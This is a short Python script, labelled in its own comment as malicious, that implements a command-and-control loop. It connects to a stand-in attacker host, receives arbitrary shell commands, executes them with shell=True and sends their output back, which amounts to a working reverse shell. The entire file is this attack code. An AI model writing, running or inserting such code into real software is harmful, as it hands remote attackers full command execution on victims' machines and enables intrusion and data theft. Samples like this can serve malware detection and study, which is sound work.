# Malicious: a command-and-control loop: takes shell commands from a remote host and sends back their output.
import socket
import subprocess

conn = socket.socket()
conn.connect(("c2.attacker.example", 8443))
while True:
    command = conn.recv(4096).decode()
    if not command:
        break
    result = subprocess.run(command, shell=True, capture_output=True)
    conn.sendall(result.stdout + result.stderr)
